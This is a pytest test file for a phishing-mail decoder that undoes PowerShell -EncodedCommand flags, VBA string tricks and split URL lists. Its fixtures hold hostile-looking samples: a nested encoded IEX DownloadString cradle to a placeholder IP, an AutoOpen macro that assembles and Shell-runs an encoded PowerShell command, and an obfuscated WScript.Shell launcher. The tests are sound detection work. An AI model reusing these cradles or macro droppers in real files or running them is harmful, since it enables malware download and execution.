from __future__ import annotations

import base64

import pytest

from sekimori.mail.decode import analyze_text, decode_powershell, deobfuscate, join_built_strings

COMMAND = "Write-Output 'detector-test'"
ENCODED = base64.b64encode(COMMAND.encode("utf-16-le")).decode()


@pytest.mark.parametrize("flag", ["-e", "-ec", "-en", "-enc", "-ENCOD", "-EncodedCommand", "/enc"])
def test_powershell_encoded_any_abbreviation(flag: str) -> None:
    result = analyze_text(f"powershell.exe -nop -w hidden {flag} {ENCODED}")
    hits = [h for h in result.hits if h.id == "decode.powershell_encoded"]
    assert hits and hits[0].evidence["decoded"] == COMMAND


def test_nested_encoded_command_and_urls_inside() -> None:
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
    inner_b64 = base64.b64encode(inner.encode("utf-16-le")).decode()
    outer = f"powershell -enc {inner_b64}"
    outer_b64 = base64.b64encode(outer.encode("utf-16-le")).decode()
    result = analyze_text(f"cmd /c powershell -e {outer_b64}")
    assert inner in result.facts["powershell"]
    assert "http://198.51.100.7/a" in result.urls
    assert {"type": "ip", "value": "198.51.100.7"} in [o.to_json() for o in result.observables]


def test_split_url_list_becomes_observables() -> None:
    text = (
        '$l = "http://a.example.invalid/1/,https://b.example.invalid/2/,'
        'http://203.0.113.9/3/".Split(",")'
    )
    result = analyze_text(text)
    listed = next(h for h in result.hits if h.id == "decode.url_list")
    assert len(listed.evidence["urls"]) == 3
    values = {o.value for o in result.observables}
    assert {"a.example.invalid", "b.example.invalid", "203.0.113.9"} <= values


def test_string_tricks_undone() -> None:
    assert deobfuscate('"ht" & "tp://" + "x.example.invalid"') == '"http://x.example.invalid"'
    assert deobfuscate("Chr(99) & Chr(109) & Chr(100)") == '"cmd"'
    assert deobfuscate('StrReverse("llehsrewop")') == '"powershell"'
    assert deobfuscate('Replace("pXXowXXershell", "XX", "")') == '"powershell"'
    assert deobfuscate("P^Ow^er^she^L^L") == "POwersheLL"
    assert deobfuscate("'ht'+'tp://a'") == "'http://a'"
    result = analyze_text('x = "ht" & "tp://" & "evil.example.invalid/a.exe"')
    assert result.urls == ["http://evil.example.invalid/a.exe"]


def test_hidden_command_only_when_obfuscated() -> None:
    assert "decode.hidden_command" in {
        h.id
        for h in analyze_text('CreateObject(StrReverse("llehS.tpircSW")).Run "c" & "md /c x"').hits
    }
    assert analyze_text('Shell "cmd /c dir"').hits == []


def test_garbage_base64_is_not_a_command() -> None:
    assert decode_powershell("!!!!") is None
    assert decode_powershell(base64.b64encode(bytes(range(256))).decode()) is None


def test_string_built_line_by_line_is_decoded_whole() -> None:
    script = "Write-Output 'http://shop.example.invalid/wp-content/Zq3fT/'"
    command = "powershell -enc " + base64.b64encode(script.encode("utf-16-le")).decode()
    # 88 characters: the first piece alone holds a decodable start of the
    # Base64 ("Write-Output 'http://shop.e"), as the demo's 200-character ones do.
    pieces = [command[i : i + 88] for i in range(0, len(command), 88)]
    macro = (
        "Sub AutoOpen()\r\n    Dim c As String\r\n"
        + "".join(f'    c = c & "{p}"\r\n' for p in pieces)
        + "    Shell c, 0\r\nEnd Sub\r\n"
    )
    result = analyze_text(macro)
    assert result.facts["powershell"] == [script]
    # the URL whole, never a piece of it cut at a line (http://shop)
    assert result.urls == ["http://shop.example.invalid/wp-content/Zq3fT/"]
    assert {o.value for o in result.observables} >= {"shop.example.invalid"}


def test_join_built_strings_keeps_other_lines() -> None:
    text = 'a = "x"\nb = b & "y"\nc = "1"\nc = c & "2"\nc = c + "3"\nShell c'
    assert join_built_strings(text) == 'a = "x"\nb = "y"\nc = "123"\nShell c'
    assert join_built_strings('d = e & "z"') == 'd = e & "z"'


def test_text_without_quotes_carets_or_chr_is_left_as_it_is() -> None:
    text = "請求書を送付します\nplain text, no tricks"
    assert deobfuscate(text) is text
    assert deobfuscate("x = CHR(104) & CHR(116)") != "x = CHR(104) & CHR(116)"
